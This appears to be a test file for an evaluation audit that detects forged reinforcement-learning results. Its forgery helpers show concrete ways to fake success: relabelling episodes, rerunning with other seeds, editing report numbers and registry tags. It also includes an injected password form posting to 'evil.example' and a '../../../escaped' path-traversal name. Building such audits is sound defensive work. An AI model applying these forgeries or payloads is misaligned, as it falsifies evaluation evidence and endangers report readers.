"""The audit finds a forger who recomputes every digest, number, page and tag."""

import json
import re
import shutil
from dataclasses import replace

import numpy as np
import pytest

from agentgym.audit import audit
from agentgym.audit.findings import Checks
from agentgym.audit.reported import _check_report
from agentgym.audit.stored_steps import read_steps
from agentgym.cli import main
from agentgym.config import load_config
from agentgym.evaluation.publish import PAGE
from agentgym.pages import picture_data
from agentgym.pipeline.run import run_step
from agentgym.pipeline.table import finished, open_store
from agentgym.records import TRAJECTORIES, decode_trajectories
from agentgym.rollouts.policies.torch import TorchPolicy
from agentgym.store.manifest import ManifestError
from agentgym.types import Status

LAST = "evaluate-stage-2"


def named(seq, episode):
    return f"{LAST} commit {seq} {episode.item.item_id} sample {episode.sample}"


def failures(forger, step=LAST):
    return [each for each in forger.evaluation(step) if not each[2].success]


def success_of(forger, wanted, step=LAST):
    """Return a successful sample that `wanted` accepts, or None."""
    found = [e for _, _, e in forger.evaluation(step) if e.success and e.sample and wanted(e)]
    return found[0] if found else None


def winning(episode):
    """Return the episode with its last action rewarded."""
    turns = (*episode.turns[:-1], replace(episode.turns[-1], reward=1.0))
    return replace(episode, turns=turns, reward=1.0, success=True, status=Status.TERMINATED)


def relabelled(episode, like):
    """Return another episode under the name of this one."""
    return replace(like, item=episode.item, sample=episode.sample, temperature=episode.temperature)


def the_old_draw(forger, seq, count):
    """Return the episodes of a commit that older audits replayed: a function of the seed."""
    salt = int.from_bytes(LAST.encode(), "little") % 2**63 + seq + 1
    drawn = np.random.Generator(np.random.Philox(key=[forger.cfg.seed, salt]))
    return set(drawn.permutation(len(forger.episodes(LAST, seq)))[:count].tolist())


# --- forgeries: each changes the last evaluation and returns the name of its first episode


def success_in_last_turns_that_no_replay_looked_at(forger):
    changed = {
        (seq, i): winning(e)
        for seq, i, e in failures(forger)
        if i not in the_old_draw(forger, seq, 4)
    }
    forger.reevaluate(LAST, changed)
    (seq, _), episode = next(iter(changed.items()))
    return named(seq, episode)


def copies_of_a_successful_sample(forger):
    for seq, i, e in failures(forger):
        if e.sample and (other := success_of(forger, lambda o, e=e: o.item == e.item)):
            forger.reevaluate(LAST, {(seq, i): relabelled(e, other)})
            return named(seq, e)
    raise AssertionError("no item with a success and a failure")


def greedy_episodes_that_were_samples(forger):
    for seq, i, e in forger.evaluation(LAST):
        if not e.sample and (
            other := success_of(
                forger, lambda o, e=e: o.item == e.item and o.input_ids != e.input_ids
            )
        ):
            forger.reevaluate(LAST, {(seq, i): relabelled(e, other)})
            return named(seq, e)
    raise AssertionError("no sampled success that differs from its greedy episode")


def a_success_of_another_item(forger):
    seq, i, e = next(
        each
        for each in failures(forger)
        if each[2].sample and each[1] not in the_old_draw(forger, each[0], 4)
    )
    other = success_of(forger, lambda o: o.item != e.item)
    forger.reevaluate(LAST, {(seq, i): relabelled(e, other)})
    return named(seq, e)


def played_anew(forger, **changes):
    """Repeat the last evaluation with other settings. Return {seq: episodes}."""
    here = forger.cfg.state_dir
    there = shutil.copytree(here, here.with_name(f"{here.name}-anew"))
    overrides = [
        f"store.path={there / 'store'}",
        *(f"evaluation.{name}={value}" for name, value in changes.items()),
    ]
    cfg = load_config(here / "params.yaml", overrides)
    run_step("evaluate-warm-start", cfg)  # the baseline of LAST
    run_step(LAST, cfg)
    store = open_store(cfg)
    commits = store.history(LAST, finished(cfg, store)[LAST].key)
    return {
        commit.seq: decode_trajectories(store.read(commit, TRAJECTORIES))
        for commit in commits
        if TRAJECTORIES in commit.records
    }


def the_best_of_many_seeds(forger):
    anew = played_anew(forger, seed=2)
    changed = {
        (seq, i): e for seq, episodes in anew.items() for i, e in enumerate(episodes) if e.sample
    }
    forger.reevaluate(LAST, changed)
    return f"{LAST} commit 1"


def a_longer_horizon(forger):
    """Let episodes that failed at the horizon continue."""
    anew = played_anew(forger, max_turns=11)
    changed = {
        (seq, i): replace(e, max_turns=forger.cfg.evaluation.max_turns)
        for seq, episodes in anew.items()
        for i, e in enumerate(episodes)
        if e.status is Status.TERMINATED
    }
    late = next((key, e) for key, e in changed.items() if len(e.turns) > e.max_turns)
    forger.reevaluate(LAST, changed)
    return named(late[0][0], late[1])


def on_page(forger, change):
    """Change the page's text in the store and in MLflow, and nothing else."""
    forged = change(forger.blob("report", 0, PAGE).read_bytes())
    forger.rewrite("report", 0, PAGE, forged)
    for path in (forger.cfg.state_dir / "mlflow-artifacts").rglob(PAGE):
        path.write_bytes(forged)
    forger.report = lambda: None
    return f"{PAGE}, made again"


def higher_numbers_on_the_page(forger):
    final = forger.commits(LAST)[-1].results["summary"]["greedy"]["mean"]
    shown = f"{100 * final:.1f}".encode()
    assert shown in forger.blob("report", 0, PAGE).read_bytes()
    return on_page(forger, lambda page: page.replace(shown, b"99.2"))


def a_second_table_in_the_section_on_time(forger):
    more = b"<table><tr><td>greedy</td><td>99.2 %</td></tr></table></section>"
    time = b"<h2>Time</h2>"

    def change(page):
        begin = page.index(time)
        return page[:begin] + page[begin:].replace(b"</section>", more, 1)

    return on_page(forger, change)


def a_login_in_the_section_on_time(forger):
    form = b'<h2>Time</h2><form action="https://evil.example"><input name="password"></form>'
    return on_page(forger, lambda page: page.replace(b"<h2>Time</h2>", form))


def a_run_that_took_no_time(forger):
    return on_page(forger, lambda page: re.sub(rb"<td>[0-9.]+ s</td>", b"<td>0.1 s</td>", page))


def higher_numbers_on_the_registered_model(forger):
    forger.sql("update model_version_tags set value = '0.9920' where key = 'eval.greedy'")
    return "tag eval.greedy"


FORGERIES = {
    success_in_last_turns_that_no_replay_looked_at: {"replay"},
    copies_of_a_successful_sample: {"sampling"},
    greedy_episodes_that_were_samples: {"sampling"},
    a_success_of_another_item: {"sampling", "replay"},
    the_best_of_many_seeds: {"sampling"},
    a_longer_horizon: {"episodes"},
    higher_numbers_on_the_page: {"numbers"},
    a_second_table_in_the_section_on_time: {"numbers"},
    a_login_in_the_section_on_time: {"numbers"},
    a_run_that_took_no_time: {"numbers"},
    higher_numbers_on_the_registered_model: {"registry"},
}


@pytest.mark.parametrize(
    ("forgery", "checks"), FORGERIES.items(), ids=lambda each: getattr(each, "__name__", None)
)
def test_a_forged_run_is_found_and_the_culprit_named(forger, forgery, checks):
    where = forgery(forger)
    said = forger.caught(*checks, num_episodes=None, seed=1)
    assert where in " | ".join(said.values()), said


def test_a_picture_by_another_matplotlib_is_not_checked_and_the_page_around_it_is(forger):
    name = "evaluation.png"
    kept = forger.blob("report", 0, name).read_bytes()
    drawn = kept.replace(b"Matplotlib version", b"Matplotlib Version")
    assert drawn != kept
    more = drawn[:-20] + bytes(20)  # another picture
    data = forger.blob("report", 0, PAGE).read_bytes()
    page = data.replace(picture_data(kept).encode(), picture_data(more).encode())
    assert page != data
    for file, content in ((name, more), (PAGE, page)):
        forger.rewrite("report", 0, file, content)
    commit = forger.commits("report")[-1]
    store, checks = open_store(forger.cfg), Checks("numbers")
    steps = read_steps(forger.cfg, store, Checks("content"), Checks("lineage"))
    _check_report(steps[-1], commit, checks)
    assert checks.failures == []
    ((what, why),) = checks.left_out
    assert what == f"{name} of the report"
    assert why.startswith("'Matplotlib Version")
    forger.rewrite("report", 0, PAGE, page.replace(b"<h2>Run</h2>", b"<h2>Best run</h2>"))
    steps = read_steps(forger.cfg, store, Checks("content"), Checks("lineage"))
    _check_report(steps[-1], forger.commits("report")[-1], checks)
    assert f"{PAGE}, made again" in checks.failures[0]


def test_a_page_that_an_earlier_version_wrote_with_flat_names_of_limits_is_honest(forger):
    page = forger.blob("report", 0, PAGE).read_bytes()
    flat = page.replace(b"below alarms.entropy.min 10", b"below alarms.min_entropy 10")
    assert flat != page
    on_page(forger, lambda _: flat)
    store, checks = open_store(forger.cfg), Checks("numbers")
    steps = read_steps(forger.cfg, store, Checks("content"), Checks("lineage"))
    _check_report(steps[-1], forger.commits("report")[-1], checks)
    assert checks.failures == []


def test_equal_texts_alone_are_honest(forger):
    """Accept repeated texts of a nearly deterministic policy.
    The random numbers distinguish them from copies.
    """
    texts = [(e.item, e.input_ids) for _, _, e in forger.evaluation(LAST)]
    assert len(set(texts)) < len(texts)
    said = {check.name: check for check in audit(forger.cfg, num_episodes=1).checks}
    assert said["sampling"].ok
    assert said["sampling"].counted > 1000
    # tokens of each stage's second step came from weights that the end of the stage pruned
    num_pruned = sum(
        e.item.split == "train" for step in ("stage-1", "stage-2") for e in forger.episodes(step, 1)
    )
    left_out = f"episodes of pruned weights ({num_pruned}), store.keep_checkpoints keeps newer ones"
    assert said["sampling"].not_checked == (left_out,)


def test_each_audit_draws_anew_and_its_seed_repeats_it(forger, capsys):
    params = ["--params", str(forger.cfg.state_dir / "params.yaml")]
    command = ["audit", "--json", "--episodes", "8", "--rescore", "1", *params]
    reports = []
    for more in ((), (), ("--seed", "5"), ("--seed", "5")):
        assert main([*command, *more]) == 0
        reports.append(json.loads(capsys.readouterr().out))
    assert reports[0]["seed"] != reports[1]["seed"]
    assert reports[2]["seed"] == reports[3]["seed"] == 5
    counted = [
        next(c["counted"] for c in report["checks"] if c["name"] == "replay") for report in reports
    ]
    # comparisons; other episodes have other numbers of turns
    assert counted[2] == counted[3]
    assert main(["audit", "--episodes", "all", "--rescore", "1", *params]) == 0
    shown = capsys.readouterr().out
    everything = sum(
        len(forger.episodes(step, c.seq)) for step in STEPS for c in forger.commits(step)
    )
    num_demos = len(
        decode_trajectories(forger.blob("demonstrate", 0, "demos.jsonl.gz").read_bytes())
    )
    told = (
        f"{everything + num_demos} of {everything + num_demos} episodes, 0 env_error replayed to"
        " their end, 0 timeout replayed"
    )
    assert told in shown
    assert "audit passed; to repeat it: --seed " in shown
    assert "\nok, not checked  sampling " in shown
    assert "\n        not checked: episodes of pruned weights (" in shown


STEPS = (
    "evaluate-initialize",
    "evaluate-warm-start",
    "stage-1",
    "evaluate-stage-1",
    "stage-2",
    LAST,
)


def test_an_engine_that_does_not_repeat_its_draws_is_said_to_be_unchecked(
    forger, monkeypatch, capsys
):
    copies_of_a_successful_sample(forger)
    forger.report()
    monkeypatch.setattr(TorchPolicy, "repeats_draws", False)
    params = str(forger.cfg.state_dir / "params.yaml")
    main(["audit", "--episodes", "1", "--seed", "1", "--params", params])
    said = capsys.readouterr().out
    told = (
        r"^not checked +sampling +0\n +not checked: draws of a step \(\d+\), engine torch does not"
    )
    assert re.search(told, said, re.MULTILINE)
    # MLflow's numbers and pages and the gate's decision still hold the earlier results
    failed = set(re.findall(r"^FAILED +(\w+)", said, re.MULTILINE))
    assert failed <= {"ledger", "pages", "registry", "decisions"}


def test_a_report_whose_names_lead_out_of_its_folder_is_not_exported(forger):
    """Refuse it: whoever made the store could write into its reader's home."""
    from agentgym.pipeline.run import export_report

    path = forger.folder("report") / "manifests" / "000000.json"
    tree = json.loads(path.read_bytes())
    tree["records"]["../../../escaped"] = tree["records"][PAGE]
    del tree["follows"], tree["records_digest"]  # without digests that would fail first
    path.write_text(json.dumps(tree))
    with pytest.raises(ManifestError, match=r"name '../../../escaped' is no plain file name"):
        export_report(forger.cfg, finished(forger.cfg, open_store(forger.cfg))["report"])
    assert not (forger.cfg.state_dir / "escaped").exists()
    assert not (forger.cfg.state_dir.parent / "escaped").exists()
